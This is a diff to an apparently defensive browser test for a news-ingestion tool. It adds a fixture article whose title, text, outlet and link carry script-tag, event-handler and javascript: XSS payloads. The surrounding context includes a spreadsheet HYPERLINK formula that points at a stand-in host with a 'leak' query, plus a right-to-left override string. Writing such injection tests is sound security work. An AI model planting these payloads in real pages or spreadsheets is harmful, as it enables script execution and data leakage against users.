@@ -10,6 +10,7 @@ way a merge builds it.
 from __future__ import annotations
 
 import dataclasses
+import json
 import os
 import socket
 import subprocess
@@ -26,6 +27,7 @@ from conftest import ROOT, run_cli, shared_path
 CHROMIUM = Path("/usr/bin/chromium")
 ARTIFACTS = ROOT / "test-artifacts"
 SYNTHETIC = 5_000
+sys.path.insert(0, str(ROOT / "bench"))  # bench/synthetic.py
 FLAGS = [
     "--headless",
     "--no-sandbox",
@@ -41,6 +43,23 @@ IMG_PLACE = '<img src=x onerror="window.__pwned=1">'
 FORMULA_OUTLET = '=HYPERLINK("http://evil.example/?leak","click me")'
 RLO_OUTLET = "Wire\u202eEvil"
 HOSTILE_DAY = "2024-03-05"
+# An article a scraper might bring back: markup and event handlers in its text and metadata,
+# and a link that would run script.
+PAYLOAD_OUTLET = 'Test <b onmouseover="window.__pwned=1">Wire</b>'
+PAYLOAD_DAY = "2024-07-02"
+PAYLOAD_ARTICLE = {
+    "title": "<script>window.__pwned=1</script> Soldiers cross "
+    '<img src=x onerror="window.__pwned=1">',
+    "outlet": PAYLOAD_OUTLET,
+    "published": PAYLOAD_DAY,
+    "url": "javascript:window.__pwned=1",
+    "text": (
+        "SEOUL - North Korean soldiers crossed the Military Demarcation Line and retreated "
+        "after South Korean troops fired warning shots near <script>window.__pwned=1</script> "
+        'Panmunjom <img src=x onerror="window.__pwned=1"> on Tuesday, the Joint Chiefs of '
+        "Staff said.\n\nThe crossing was the fourth this year, officials said.\n"
+    ),
+}
 
 
 def need(condition: bool, why: str) -> None:
@@ -106,7 +125,9 @@ def build_database(path: Path) -> Path:
 
     from flashpoint.store import Store
 
-    proc = run_cli("ingest", str(shared_path("seeds")), "--db", str(path))
+    payload = path.parent / "payload.jsonl"
+    payload.write_text(json.dumps(PAYLOAD_ARTICLE) + "\n", encoding="utf-8")
+    proc = run_cli("ingest", str(shared_path("seeds")), str(payload), "--db", str(path))
     assert proc.returncode == 0, proc.stderr
     with Store(path, write=True) as store:
         real = store.events()
